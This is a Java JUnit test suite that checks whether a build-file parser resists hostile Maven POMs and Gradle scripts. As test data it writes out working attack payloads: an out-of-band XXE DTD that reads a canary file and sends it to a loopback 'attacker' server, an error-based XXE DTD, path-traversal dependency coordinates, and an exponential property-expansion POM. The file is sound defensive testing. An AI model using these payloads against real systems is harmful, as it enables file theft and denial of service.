package rewriteassist.runner.net;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import rewriteassist.runner.Fixture;
import rewriteassist.runner.RepositoryServer;

/**
 * The runner reads POMs and build scripts it must not trust: the repository's own, and every POM
 * a repository they declare serves. None of them may make it read a local file and send it away
 * (XXE), write outside the local repository (path traversal), keep a jar that does not match its
 * checksum, read a {@code file:} repository it was not told to trust, or exhaust its heap with an
 * endless POM. Each case runs a real parse against real HTTP servers on loopback.
 */
class HostileRepositoryTest {
    @RegisterExtension
    final Fixture fixture = Fixture.in("work");

    private Path localRepository;
    private Path canary;
    private String secret;

    @BeforeEach
    void fixture() throws IOException {
        Files.createDirectories(fixture.dir());
        // Deep enough that every ../ of the hostile coordinates below still lands in `fixture.root()`, where
        // the test can see it.
        localRepository = fixture.root().resolve("d1/d2/d3/d4/d5/d6/d7/d8/d9/d10/d11/d12/d13/d14/repository");
        Files.createDirectories(localRepository);
        secret = "CANARY-" + UUID.randomUUID();
        canary = fixture.root().resolve("canary.txt");
        Files.writeString(canary, secret + "\n");
    }

    private static String project(String extra) {
        return """
                <project xmlns="http://maven.apache.org/POM/4.0.0">
                  <modelVersion>4.0.0</modelVersion>
                  <groupId>com.acme</groupId>
                  <artifactId>app</artifactId>
                  <version>1.0</version>
                """
                + extra
                + "</project>\n";
    }

    private static String repositories(String url) {
        return "  <repositories><repository><id>declared</id><url>" + url + "</url></repository></repositories>\n";
    }

    private static String dependency(String group, String artifact, String version) {
        return "  <dependencies><dependency><groupId>" + group + "</groupId><artifactId>" + artifact
                + "</artifactId><version>" + version + "</version></dependency></dependencies>\n";
    }

    /** The classic out-of-band XXE: the DTD reads the canary and sends it in a URL to the attacker. */
    private String exfiltratingDtd(RepositoryServer attacker) {
        return "<!ENTITY % file SYSTEM \"" + canary.toUri() + "\">\n"
                + "<!ENTITY % all \"<!ENTITY &#x25; send SYSTEM '" + attacker.url() + "x?%file;'>\">\n"
                + "%all;\n%send;\n";
    }

    private String externalDoctype(RepositoryServer attacker) {
        return "<?xml version=\"1.0\"?>\n<!DOCTYPE project [<!ENTITY % p SYSTEM \"" + attacker.url()
                + "e.dtd\"> %p;]>\n";
    }

    /**
     * The error-based XXE: a DTD (here a local file, as a repository could also ship one) makes the
     * canary's content part of a file name, which the parser then names in its error message.
     */
    private String errorDoctype() throws IOException {
        Path dtd = fixture.root().resolve("error.dtd");
        Files.writeString(
                dtd,
                "<!ENTITY % file SYSTEM \"" + canary.toUri() + "\">\n"
                        + "<!ENTITY % eval \"<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>\">\n"
                        + "%eval;\n%error;\n");
        return "<?xml version=\"1.0\"?>\n<!DOCTYPE project [<!ENTITY % d SYSTEM \"" + dtd.toUri() + "\"> %d;]>\n";
    }

    /** Parses {@code root} with the test's local repository; returns the results and the log. */
    private Parsed parse(Path root, boolean trustFileRepositories) throws Exception {
        PrintStream before = System.err;
        ByteArrayOutputStream log = new ByteArrayOutputStream();
        System.setErr(new PrintStream(log, true, StandardCharsets.UTF_8));
        try {
            JsonNode results = fixture.send(fixture.parseRequest(root, localRepository, trustFileRepositories));
            return new Parsed(results, log.toString(StandardCharsets.UTF_8));
        } finally {
            System.setErr(before);
        }
    }

    private record Parsed(JsonNode results, String log) {
        String warnings() {
            return results.path("warnings").toString();
        }
    }

    private void assertNoLeak(Parsed parsed, RepositoryServer attacker) {
        assertEquals(List.of(), attacker.requests(), "the attacker's server was contacted");
        assertFalse(
                parsed.results().toString().contains(secret), parsed.results().toString());
        assertFalse(parsed.log().contains(secret), parsed.log());
    }

    @Test
    void aBasePomCannotSendAFileAwayThroughAnExternalDtd() throws Exception {
        try (RepositoryServer attacker = new RepositoryServer()) {
            attacker.serve("/e.dtd", exfiltratingDtd(attacker));
            Path root = fixture.repo("pom.xml", externalDoctype(attacker) + project(""), "README.md", "x\n");
            Parsed parsed = parse(root, false);
            assertTrue(parsed.results().path("ok").asBoolean(), parsed.results().toString());
            assertNoLeak(parsed, attacker);
        }
    }

    @Test
    void aBasePomCannotPutAFileIntoAnErrorMessage() throws Exception {
        try (RepositoryServer attacker = new RepositoryServer()) {
            Path root = fixture.repo("pom.xml", errorDoctype() + project(""), "README.md", "x\n");
            Parsed parsed = parse(root, false);
            assertTrue(parsed.results().path("ok").asBoolean(), parsed.results().toString());
            assertNoLeak(parsed, attacker);
        }
    }

    @Test
    void aRemoteParentCannotSendAFileAway() throws Exception {
        try (RepositoryServer attacker = new RepositoryServer();
                RepositoryServer repository = new RepositoryServer()) {
            attacker.serve("/e.dtd", exfiltratingDtd(attacker));
            repository.serve(
                    "/evil/parent/1.0/parent-1.0.pom",
                    externalDoctype(attacker)
                            + "<project><modelVersion>4.0.0</modelVersion><groupId>evil</groupId>"
                            + "<artifactId>parent</artifactId><version>1.0</version><packaging>pom</packaging>"
                            + "</project>\n");
            String pom =
                    """
                    <project xmlns="http://maven.apache.org/POM/4.0.0">
                      <modelVersion>4.0.0</modelVersion>
                      <parent><groupId>evil</groupId><artifactId>parent</artifactId><version>1.0</version>
                        <relativePath/></parent>
                      <artifactId>app</artifactId>
                    """
                            + repositories(repository.url()) + "</project>\n";
            Parsed parsed = parse(fixture.repo("pom.xml", pom), false);
            assertTrue(
                    repository.requests().stream().anyMatch(r -> r.contains("parent-1.0.pom")),
                    "the parent was never fetched, so the test proves nothing: " + repository.requests());
            assertNoLeak(parsed, attacker);
        }
    }

    @Test
    void aRemoteDependencyPomCannotSendAFileAway() throws Exception {
        try (RepositoryServer attacker = new RepositoryServer();
                RepositoryServer repository = new RepositoryServer()) {
            attacker.serve("/e.dtd", exfiltratingDtd(attacker));
            repository.serve(
                    "/evil/dep/1.0/dep-1.0.pom",
                    externalDoctype(attacker)
                            + "<project><modelVersion>4.0.0</modelVersion><groupId>evil</groupId>"
                            + "<artifactId>dep</artifactId><version>1.0</version></project>\n");
            String pom = project(repositories(repository.url()) + dependency("evil", "dep", "1.0"));
            Parsed parsed = parse(fixture.repo("pom.xml", pom), false);
            assertTrue(
                    repository.requests().stream().anyMatch(r -> r.contains("dep-1.0.pom")),
                    "the dependency's POM was never fetched: " + repository.requests());
            assertNoLeak(parsed, attacker);
        }
    }

    /** A repository that serves a POM and a jar for any coordinates at all. */
    private static RepositoryServer anything(RepositoryServer server, String group, String artifact, String version) {
        String folder = "/" + group.replace('.', '/') + "/" + artifact + "/" + version + "/";
        String base = folder + artifact + "-" + version;
        return server.serve(
                        base + ".pom",
                        "<project><modelVersion>4.0.0</modelVersion><groupId>" + group + "</groupId><artifactId>"
                                + artifact + "</artifactId><version>" + version + "</version></project>\n")
                .serve(base + ".jar", jar());
    }

    private static byte[] jar() {
        return "PK\u0003\u0004 not really a jar".getBytes(StandardCharsets.ISO_8859_1);
    }

    /**
     * Every path under {@code fixture.root()} that is neither in the local repository nor in the test's own
     * folders: the hostile coordinates below climb at most ten levels, which keeps anything they
     * could write inside {@code fixture.root()}.
     */
    private List<Path> outsideTheRepository() throws IOException {
        try (Stream<Path> all = Files.walk(fixture.root())) {
            return all.filter(p -> !p.startsWith(localRepository) && !p.startsWith(fixture.dir()))
                    .filter(p -> !localRepository.startsWith(p))
                    .filter(p ->
                            !p.equals(canary) && !p.getFileName().toString().endsWith(".dtd"))
                    .filter(p -> !p.startsWith(fixture.root().resolve("file-repository")))
                    .toList();
        }
    }

    @Test
    void coordinatesInAPomCannotWriteOutsideTheLocalRepository() throws Exception {
        for (String[] coordinates : List.of(
                new String[] {"evil", "../../../../../outside", "1.0"},
                new String[] {"evil", "a", "../../../../../../outside"},
                new String[] {"..", "outside", "1.0"},
                new String[] {"evil", "a/../../../../../../outside", "1.0"})) {
            try (RepositoryServer repository = new RepositoryServer()) {
                anything(repository, coordinates[0], coordinates[1], coordinates[2]);
                String pom = project(
                        repositories(repository.url()) + dependency(coordinates[0], coordinates[1], coordinates[2]));
                Path root = fixture.dir().resolve("repo-" + coordinates[1].length() + coordinates[2].length());
                Parsed parsed = parseAt(root, pom);
                assertEquals(
                        List.of(), outsideTheRepository(), String.join(":", coordinates) + "\n" + parsed.warnings());
                assertTrue(
                        repository.requests().stream().noneMatch(r -> r.contains("outside")),
                        repository.requests().toString());
                assertTrue(parsed.warnings().contains("refused"), parsed.warnings());
            }
        }
    }

    private Parsed parseAt(Path root, String pom) throws Exception {
        Files.createDirectories(root);
        Files.writeString(root.resolve("pom.xml"), pom);
        new ProcessBuilder("git", "init", "-q", root.toString()).start().waitFor();
        new ProcessBuilder("git", "-C", root.toString(), "add", "-A").start().waitFor();
        return parse(root, false);
    }

    @Test
    void coordinatesInABuildGradleCannotWriteOutsideTheLocalRepository() throws Exception {
        try (RepositoryServer repository = new RepositoryServer()) {
            anything(repository, "evil", "../../../../../outside", "1.0");
            String script = "plugins { id 'java' }\n"
                    + "repositories { maven { url '" + repository.url() + "' } }\n"
                    + "dependencies { implementation 'evil:../../../../../outside:1.0' }\n";
            Path root = fixture.repo("settings.gradle", "rootProject.name = 'app'\n", "build.gradle", script);
            Parsed parsed = parse(root, false);
            assertTrue(parsed.results().path("ok").asBoolean(), parsed.results().toString());
            assertEquals(List.of(), outsideTheRepository(), parsed.warnings());
            assertTrue(
                    repository.requests().stream().noneMatch(r -> r.contains("outside")),
                    repository.requests().toString());
        }
    }

    private static String sha1(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(bytes));
    }

    @Test
    void aJarThatDoesNotMatchItsChecksumIsNotKept() throws Exception {
        try (RepositoryServer repository = new RepositoryServer()) {
            anything(repository, "good", "verified", "1.0")
                    .serve("/good/verified/1.0/verified-1.0.jar.sha1", sha1(jar()) + "  verified-1.0.jar\n");
            anything(repository, "good", "tampered", "1.0")
                    .serve("/good/tampered/1.0/tampered-1.0.jar.sha1", sha1("other bytes".getBytes()) + "\n");
            String pom = project(repositories(repository.url())
                    + "  <dependencies>\n"
                    + "    <dependency><groupId>good</groupId><artifactId>verified</artifactId>"
                    + "<version>1.0</version></dependency>\n"
                    + "    <dependency><groupId>good</groupId><artifactId>tampered</artifactId>"
                    + "<version>1.0</version></dependency>\n"
                    + "  </dependencies>\n");
            Parsed parsed = parse(fixture.repo("pom.xml", pom), false);
            assertTrue(Files.isRegularFile(localRepository.resolve("good/verified/1.0/verified-1.0.jar")));
            assertFalse(Files.exists(localRepository.resolve("good/tampered/1.0/tampered-1.0.jar")));
            try (Stream<Path> left = Files.walk(localRepository.resolve("good/tampered"))) {
                assertEquals(List.of(), left.filter(Files::isRegularFile).toList(), "a partial download was left");
            }
            assertTrue(parsed.warnings().contains("checksum mismatch"), parsed.warnings());
            assertEquals(List.of(), outsideTheRepository());
            assertEquals(
                    1,
                    parsed.results().path("modules").get(0).path("unresolved").asInt(),
                    parsed.results().toString());
        }
    }

    @Test
    void aRepositoryWithoutChecksumsIsNamed() throws Exception {
        try (RepositoryServer repository = new RepositoryServer()) {
            anything(repository, "good", "bare", "1.0");
            String pom = project(repositories(repository.url()) + dependency("good", "bare", "1.0"));
            Parsed parsed = parse(fixture.repo("pom.xml", pom), false);
            assertTrue(Files.isRegularFile(localRepository.resolve("good/bare/1.0/bare-1.0.jar")));
            assertTrue(parsed.warnings().contains("publishes no .sha1/.sha256 checksums"), parsed.warnings());
        }
    }

    @Test
    void aFileRepositoryNamedByAPomIsReadOnlyWhenTrusted() throws Exception {
        Path files = fixture.root().resolve("file-repository");
        Path folder = files.resolve("good/local/1.0");
        Files.createDirectories(folder);
        Files.writeString(
                folder.resolve("local-1.0.pom"),
                "<project><modelVersion>4.0.0</modelVersion><groupId>good</groupId>"
                        + "<artifactId>local</artifactId><version>1.0</version></project>\n");
        Files.write(folder.resolve("local-1.0.jar"), jar());
        String pom = project(repositories(files.toUri().toString()) + dependency("good", "local", "1.0"));
        Path root = fixture.repo("pom.xml", pom);

        Parsed untrusted = parse(root, false);
        assertTrue(untrusted.warnings().contains("file repository"), untrusted.warnings());
        assertFalse(Files.exists(localRepository.resolve("good/local/1.0/local-1.0.jar")));
        assertEquals(
                0,
                untrusted
                        .results()
                        .path("modules")
                        .get(0)
                        .path("classpath_jars")
                        .asInt());

        Parsed trusted = parse(root, true);
        assertFalse(trusted.warnings().contains("file repository"), trusted.warnings());
        assertEquals(
                1,
                trusted.results().path("modules").get(0).path("classpath_jars").asInt(),
                trusted.results().toString());
    }

    /**
     * A dependency's POM of forty doubling properties (2 KB that expand to a trillion characters)
     * would take the runner's heap: it is refused as it arrives, and the other dependency resolves.
     */
    @Test
    @Timeout(value = 60, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void aPomOfDoublingPropertiesFailsThatDownloadOnly() throws Exception {
        try (RepositoryServer repository = new RepositoryServer()) {
            StringBuilder properties = new StringBuilder("<p1>x</p1>");
            for (int i = 2; i <= 40; i++) {
                properties.append("<p").append(i).append(">${p").append(i - 1).append("}${p");
                properties.append(i - 1).append("}</p").append(i).append('>');
            }
            repository.serve(
                    "/evil/bomb/1.0/bomb-1.0.pom",
                    "<project><modelVersion>4.0.0</modelVersion><groupId>evil</groupId><artifactId>bomb</artifactId>"
                            + "<version>1.0</version><properties>" + properties + "</properties>"
                            + "<dependencies><dependency><groupId>good</groupId><artifactId>fine</artifactId>"
                            + "<version>${p40}</version></dependency></dependencies></project>\n");
            anything(repository, "good", "fine", "1.0");
            String pom = project(repositories(repository.url())
                    + "  <dependencies>\n"
                    + "    <dependency><groupId>evil</groupId><artifactId>bomb</artifactId><version>1.0</version>"
                    + "</dependency>\n"
                    + "    <dependency><groupId>good</groupId><artifactId>fine</artifactId><version>1.0</version>"
                    + "</dependency>\n"
                    + "  </dependencies>\n");
            Parsed parsed = parse(fixture.repo("pom.xml", pom), false);
            assertTrue(parsed.results().path("ok").asBoolean(), parsed.results().toString());
            assertTrue(parsed.log().contains("expand it to more than"), parsed.log());
            assertTrue(parsed.warnings().contains("evil:bomb"), parsed.warnings());
            assertTrue(Files.isRegularFile(localRepository.resolve("good/fine/1.0/fine-1.0.jar")), parsed.warnings());
        }
    }

    @Test
    void anEndlessPomFailsThatDownloadOnly() throws Exception {
        try (RepositoryServer repository = new RepositoryServer()) {
            byte[] huge = new byte[(int) Network.MAX_TEXT_BYTES + 1024];
            java.util.Arrays.fill(huge, (byte) ' ');
            byte[] start = "<project>".getBytes(StandardCharsets.UTF_8);
            System.arraycopy(start, 0, huge, 0, start.length);
            repository.serve("/big/pom/1.0/pom-1.0.pom", huge);
            anything(repository, "good", "fine", "1.0");
            String pom = project(repositories(repository.url())
                    + "  <dependencies>\n"
                    + "    <dependency><groupId>big</groupId><artifactId>pom</artifactId><version>1.0</version>"
                    + "</dependency>\n"
                    + "    <dependency><groupId>good</groupId><artifactId>fine</artifactId><version>1.0</version>"
                    + "</dependency>\n"
                    + "  </dependencies>\n");
            Parsed parsed = parse(fixture.repo("pom.xml", pom), false);
            assertTrue(parsed.results().path("ok").asBoolean(), parsed.results().toString());
            assertTrue(parsed.log().contains("larger than 4 MiB"), parsed.log());
            assertTrue(Files.isRegularFile(localRepository.resolve("good/fine/1.0/fine-1.0.jar")), parsed.warnings());
        }
    }
}
